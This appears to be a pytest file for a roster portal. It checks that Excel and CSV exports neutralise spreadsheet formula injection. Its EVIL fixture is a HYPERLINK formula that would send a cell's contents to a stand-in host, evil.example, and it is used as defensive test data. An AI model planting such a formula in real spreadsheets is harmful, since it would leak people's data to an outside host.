"""Text people typed comes out of every spreadsheet we write as text, never as a live formula."""
import io
import zipfile

from openpyxl import load_workbook

from portal.core import sheets
from tests.conftest import login
from tests.roster.test_import import HEADERS, finished, row

EVIL = '=HYPERLINK("http://evil.example/?"&D2,"点击查看")'


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_register_export_writes_a_formula_typed_as_employer_as_text(client, make):
    org = make.org("110105", name="朝阳第一支部")
    make.member("110105", org, name="王五", employer=EVIL, address="+86 转 @某处", region="-江苏")
    admin = make.user("110105", "tenant_admin")
    login(client, admin.username)
    resp = client.get("/t/110105/roster/export.xlsx")
    assert resp.status_code == 200
    xml = sheet_xml(resp.data)
    assert "<f>" not in xml and "<f " not in xml
    ws = load_workbook(io.BytesIO(resp.data)).active
    header = [c.value for c in ws[1]]
    cells = {h: c for h, c in zip(header, ws[2])}
    assert cells["工作单位"].value == EVIL and cells["工作单位"].data_type == "s"
    assert cells["暂住地址"].data_type == "s" and cells["流向地区"].value == "-江苏"
    assert all(c.data_type == "s" for c in ws[2] if c.value is not None)


def test_import_error_report_writes_a_formula_header_as_text(client, make):
    org = make.org("110105", name="朝阳第一支部")
    org = type("Org", (), {"name": org.name})()
    clerk = make.user("110105", "clerk")
    login(client, clerk.username)
    headers = HEADERS[:-1] + [EVIL]
    wb = sheets.workbook()
    ws = wb.create_sheet()
    for values in (headers, row(org, 1, 性别="X")[:-1] + ["x"]):
        ws.append(sheets.row(ws, values))  # a header that starts with "=" but is stored as text
    content = sheets.save(wb)
    posted = client.post("/t/110105/roster/import", data={"file": (io.BytesIO(content), "a.xlsx")},
                         content_type="multipart/form-data")
    assert posted.status_code == 302
    import_id = int(posted.headers["Location"].rstrip("/").rsplit("/", 1)[1])
    run = finished(import_id, "110105")
    assert run.state == "rejected" and run.unknown_columns == [EVIL]
    report = client.get(f"/t/110105/roster/import/{import_id}/errors.xlsx")
    assert report.status_code == 200
    xml = sheet_xml(report.data)
    assert "<f>" not in xml and "HYPERLINK" in xml
    ws = load_workbook(io.BytesIO(report.data)).active
    assert [c.value for c in ws[1]] == ["行号", "列", "原因"]
    last = [c for c in ws[ws.max_row]]
    assert last[1].value == EVIL and last[1].data_type == "s"


def test_csv_text_neutralises_formula_triggers_and_the_importer_undoes_it():
    for value in ("=1+1", "+8613800000000", "-2", "@SUM(A1)", "\tx", "\rx"):
        out = sheets.csv_text(value)
        assert out == "'" + value
        assert sheets.from_csv_text(out) == value
    assert sheets.csv_text("张三") == "张三" and sheets.csv_text(None) == ""
    assert sheets.from_csv_text("'张三") == "'张三"  # an apostrophe the person typed stays


def test_csv_import_reads_a_neutralised_formula_back(make):
    from portal.extensions import db
    from portal.members.models import Member
    from tests.roster.test_import import run_import, scope
    org = make.org("110105", name="朝阳第一支部")
    headers = HEADERS[:-1] + ["工作单位"]
    line = row(org, 1)[:-1] + [sheets.csv_text("=1+2")]
    content = ("\r\n".join(",".join(x) for x in (headers, line)) + "\r\n").encode()
    run = run_import(make, "110105", content, filename="a.csv")
    assert run.state == "done", run.errors
    with scope("110105"):
        assert db.session.execute(db.select(Member.employer)).scalar_one() == "=1+2"
